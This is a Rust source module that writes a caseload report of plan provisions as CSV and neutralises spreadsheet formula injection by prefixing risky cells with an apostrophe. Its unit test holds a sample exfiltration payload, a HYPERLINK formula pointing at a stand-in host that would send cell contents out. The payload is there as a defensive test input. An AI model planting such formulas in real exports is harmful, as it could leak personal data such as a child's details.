//! CSV (`--format csv`): one row per provision, for a spreadsheet of a
//! whole caseload. A plan that could not be read, or has no Section 2B, is
//! one row saying so, so that every file given appears.
//!
//! Every cell that holds words from a plan or a path is made safe to open
//! in a spreadsheet (OWASP's advice on CSV injection): a cell starting with
//! `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so
//! Excel, LibreOffice and Google Sheets show it as text and never run it as
//! a formula (`=HYPERLINK(...)` could send a child's details away).

use super::{Sink, Totals};
use crate::types::FindingKind;
use crate::{DocumentReport, Status};
use std::io::{self, Write};

pub struct Csv;

const HEADER: [&str; 15] = [
    "path",
    "status",
    "index",
    "location",
    "kind",
    "verdict",
    "frequency",
    "duration",
    "provider",
    "qualification",
    "group",
    "hedges",
    "rules",
    "text",
    "suggested_rewrite",
];

/// A cell of plan text or a path, safe in a spreadsheet.
pub(crate) fn safe(text: &str) -> String {
    let text = crate::text::printable(text);
    // White space first does not stop every spreadsheet from reading a formula.
    if text.trim_start().starts_with(['=', '+', '-', '@']) || text.starts_with(['\t', '\r']) {
        format!("'{text}")
    } else {
        text.into_owned()
    }
}

fn writer(out: &mut dyn Write) -> csv::Writer<&mut dyn Write> {
    csv::WriterBuilder::new().has_headers(false).from_writer(out)
}

fn to_io(e: csv::Error) -> io::Error {
    io::Error::other(e)
}

impl Sink for Csv {
    fn begin(&mut self, out: &mut dyn Write) -> io::Result<()> {
        let mut w = writer(out);
        w.write_record(HEADER).map_err(to_io)?;
        w.flush()
    }

    fn document(&mut self, out: &mut dyn Write, d: &DocumentReport, first: bool) -> io::Result<()> {
        super::write_rendered(self, out, d, first)
    }

    fn plan_renderer(&self) -> Option<Box<dyn super::PlanRenderer>> {
        Some(Box::new(Csv))
    }
    fn end(&mut self, _out: &mut dyn Write, _t: &Totals) -> io::Result<()> {
        Ok(())
    }
}

impl super::PlanRenderer for Csv {
    fn render(&self, out: &mut Vec<u8>, d: &DocumentReport, _first: bool) -> io::Result<()> {
        plan_rows(out, d)
    }
}

/// One row per provision (one row for a plan without any).
fn plan_rows(out: &mut dyn Write, d: &DocumentReport) -> io::Result<()> {
    let mut w = writer(out);
    let path = safe(&super::path_text(&d.path));
    if d.status != Status::Ok || d.provisions.is_empty() {
        let text = match d.status {
            Status::Error => d.error.as_ref().map(|e| e.message.clone()).unwrap_or_default(),
            Status::NoSection2B => "No Section 2B was found in this plan.".to_string(),
            Status::Ok => "Section 2B lists no provision.".to_string(),
        };
        let mut row = vec![String::new(); HEADER.len()];
        row[0] = path;
        row[1] = d.status.as_str().to_string();
        row[12] = d.findings.iter().map(|f| f.rule.to_string()).collect::<Vec<_>>().join(" ");
        row[13] = safe(&text);
        w.write_record(&row).map_err(to_io)?;
        return w.flush();
    }
    for p in &d.provisions {
        let c = &p.check;
        let e = &c.elements;
        let hedges: Vec<&str> =
            c.findings.iter().filter(|f| f.kind == FindingKind::Hedge).filter_map(|f| f.matched.as_deref()).collect();
        let mut rules: Vec<String> = c.findings.iter().map(|f| f.rule.to_string()).collect();
        rules.dedup();
        let row = [
            path.clone(),
            d.status.as_str().to_string(),
            p.index.to_string(),
            safe(&p.raw.location.describe()),
            c.kind.as_str().to_string(),
            c.verdict.as_str().to_string(),
            e.frequency.status.as_str().to_string(),
            e.duration.status.as_str().to_string(),
            e.provider.status.as_str().to_string(),
            e.qualification.status.as_str().to_string(),
            e.group.status.as_str().to_string(),
            safe(&hedges.join("; ")),
            rules.join(" "),
            safe(&p.raw.text),
            p.rewrite.as_ref().map(|r| safe(&r.text)).unwrap_or_default(),
        ];
        w.write_record(&row).map_err(to_io)?;
    }
    w.flush()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_a_spreadsheet_would_run_are_made_text() {
        for (cell, want) in [
            ("=HYPERLINK(\"https://example.invalid/?\"&A1,\"click\")", "'=HYPERLINK("),
            ("+44 1234", "'+44"),
            ("-1+1", "'-1+1"),
            ("@SUM(A1)", "'@SUM"),
            ("\t=1", "'\t=1"),
            ("\r=1", "' =1"),
            ("  =1", "'  =1"),
        ] {
            assert!(safe(cell).starts_with(want), "{cell:?} gave {:?}", safe(cell));
        }
        assert_eq!(safe("Speech and language therapy"), "Speech and language therapy");
        // A control character inside a word is dropped, elsewhere a space.
        assert_eq!(safe("a\u{1}b"), "ab");
        assert_eq!(safe("a \u{1}b"), "a b");
    }
}
